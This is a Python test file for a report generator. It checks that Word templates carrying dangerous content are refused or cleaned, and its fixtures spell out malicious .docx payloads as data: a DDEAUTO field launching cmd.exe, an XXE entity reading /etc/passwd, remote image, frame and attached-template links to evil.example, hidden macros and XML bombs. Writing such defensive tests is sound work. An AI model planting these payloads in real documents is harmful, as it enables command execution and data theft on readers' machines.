"""A house template becomes every report, and reports are opened on other people's computers: what a template may not bring."""

from __future__ import annotations

import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from test_report_template import TEMPLATE

from digitise.errors import ConfigError
from digitise.report.docx_dangers import MOST_SIGNS, MOST_XML_BYTES
from digitise.report.docx_package import open_template, save_package

RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
BODY = b"<w:body>"


def change(target: Path, changes: dict[str, Callable[[bytes], bytes]]) -> Path:
    """The usual template with some of its parts changed, others added."""
    with zipfile.ZipFile(TEMPLATE) as package, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as copy:
        names = package.namelist()
        for name in [*names, *(name for name in changes if name not in names)]:
            data = package.read(name) if name in names else b""
            copy.writestr(name, changes[name](data) if name in changes else data)
    return target


def relate(kind: str, mode: str = "External", target: str = "http://evil.example/x") -> Callable[[bytes], bytes]:
    tag = f'<Relationship Id="rId999" Type="{RELATIONS}/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'.encode()
    return lambda data: data.replace(b"</Relationships>", tag)


def field(code: str) -> Callable[[bytes], bytes]:
    runs = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in (code[:5], code[5:]))
    return lambda data: data.replace(BODY, BODY + f"<w:p>{runs}</w:p>".encode(), 1)


def declare(kind: str) -> Callable[[bytes], bytes]:
    return lambda data: data.replace(b"?>", b"?>" + kind.encode(), 1).replace(BODY, BODY + b"<w:p><w:r><w:t>&a;</w:t></w:r></w:p>", 1)


MAIN, ITS_RELATIONS = "word/document.xml", "word/_rels/document.xml.rels"
HARMFUL: dict[str, tuple[dict[str, Callable[[bytes], bytes]], str]] = {
    "a picture on a server": ({ITS_RELATIONS: relate("image")}, "elsewhere"),
    "its mode hidden": ({ITS_RELATIONS: relate("image", mode="&#69;xternal")}, "elsewhere"),
    "an object on a share": ({ITS_RELATIONS: relate("oleObject", target="file://evil/share/x")}, "elsewhere"),
    "a frame": ({"word/_rels/webSettings.xml.rels": lambda _: relate("frame")(EMPTY)}, "elsewhere"),
    "a field that fetches": ({MAIN: field('INCLUDEPICTURE "http://evil.example/x.png"')}, "elsewhere"),
    "a field that starts a program": ({MAIN: field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')}, "elsewhere"),
    "macros under another name": (
        {"[Content_Types].xml": lambda data: data.replace(b"document.main+xml", b"document.macroEnabled.main+xml")},
        "macros",
    ),
    "entities": ({MAIN: declare('<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd">]>')}, "document type"),
    "an object inside": ({ITS_RELATIONS: relate("oleObject", mode="Internal", target="embeddings/o.bin")}, "embedded object"),
    "a chunk of HTML inside": ({ITS_RELATIONS: relate("aFChunk", mode="Internal", target="afchunk.html")}, "embedded object"),
    "a package as an object": (
        {MAIN: lambda data: data.replace(BODY, BODY + b'<o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office"/>', 1)},
        "embedded object",
    ),
    "a bomb of small tags": ({"word/more.xml": lambda _: b"<a>" + b"<b/>" * MOST_SIGNS + b"</a>"}, "too large"),
    "tags in seven bits": (
        {"word/more.xml": lambda _: b'<?xml version="1.0" encoding="UTF-7"?>+ADw-a+AD4-' + b"+ADw-b/+AD4-" * 9 + b"+ADw-/a+AD4-"},
        "not a Word document",
    ),
    "a bomb of text": ({"word/more.xml": lambda _: b"<a>" + b" " * (MOST_XML_BYTES + 1) + b"</a>"}, "too large"),
}
EMPTY = b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'


@pytest.mark.parametrize("what", HARMFUL)
def test_a_template_that_runs_or_fetches_is_refused(tmp_path: Path, what: str) -> None:
    changes, reason = HARMFUL[what]
    with pytest.raises(ConfigError, match=reason):
        open_template(change(tmp_path / "t.docx", changes))


def test_links_and_usual_fields_are_welcome(tmp_path: Path) -> None:
    open_template(change(tmp_path / "t.docx", {ITS_RELATIONS: relate("hyperlink"), MAIN: field(' HYPERLINK \\l "LINK" ')}))
    open_template(change(tmp_path / "t.docx", {MAIN: field(" PAGE ")}))


def test_the_template_that_a_template_names_is_in_no_report(tmp_path: Path) -> None:
    """Word would fetch it, with its macros, from wherever the name says, for everybody who opens a report."""
    named = f'<w:attachedTemplate xmlns:r="{RELATIONS}" r:id="rId999"/></w:settings>'.encode()
    changes = {
        "word/_rels/settings.xml.rels": lambda _: relate("attachedTemplate", target="http://evil.example/x.dotm")(EMPTY),
        "word/settings.xml": lambda data: data.replace(b"</w:settings>", named),
    }
    document = open_template(change(tmp_path / "t.docx", changes))
    save_package(document, tmp_path / "out.docx")
    with zipfile.ZipFile(tmp_path / "out.docx") as package:
        whole = b"".join(package.read(name) for name in package.namelist())
    assert b"evil.example" not in whole and b"attachedTemplate" not in whole
